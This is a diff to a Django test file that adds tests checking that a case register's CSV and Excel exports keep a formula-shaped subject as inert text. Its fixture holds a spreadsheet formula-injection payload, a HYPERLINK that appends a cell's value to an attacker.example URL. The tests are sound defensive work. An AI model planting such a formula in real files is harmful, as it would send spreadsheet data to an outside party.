@@ -16,6 +16,7 @@ pytestmark = pytest.mark.django_db
 
 # 3 November 2025 is in fiscal year 2569 (October 2025 - September 2026).
 RECEIVED = datetime.datetime(2025, 11, 3, 10, 0, tzinfo=BANGKOK)
+TRAP = '=HYPERLINK("http://attacker.example/?x="&C3,"เปิด")'
 
 
 @pytest.fixture
@@ -156,6 +157,28 @@ class TestRegister:
         sheet = load_workbook(io.BytesIO(response.content)).active
         codes = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
         assert decided.display_code in codes
+
+    @pytest.fixture
+    def booby_trapped(self, new_case):
+        return new_case(kind=CaseKind.INFORMATION, subject=TRAP, now=RECEIVED)
+
+    def test_a_subject_written_as_a_formula_stays_text_in_the_csv(self, clerk, booby_trapped):
+        response = signed_in(clerk).get("/admin/cases/information-register/?year=2569&export=csv")
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        row = next(r for r in rows if r[0] == booby_trapped.display_code)
+        assert "'" + TRAP in row  # a spreadsheet program shows it as text, without running it
+        assert TRAP not in row
+
+    def test_a_subject_written_as_a_formula_stays_text_in_the_excel_file(
+        self, clerk, booby_trapped
+    ):
+        response = signed_in(clerk).get("/admin/cases/information-register/?year=2569&export=xlsx")
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        cells = [
+            row for row in sheet.iter_rows(min_row=2) if row[0].value == booby_trapped.display_code
+        ][0]
+        trapped = [cell for cell in cells if cell.value == TRAP]
+        assert trapped and all(cell.data_type == "s" for cell in trapped)
 
     def test_integrity_officers_see_no_information_requests(self, integrity_officer, decided):
         html = (
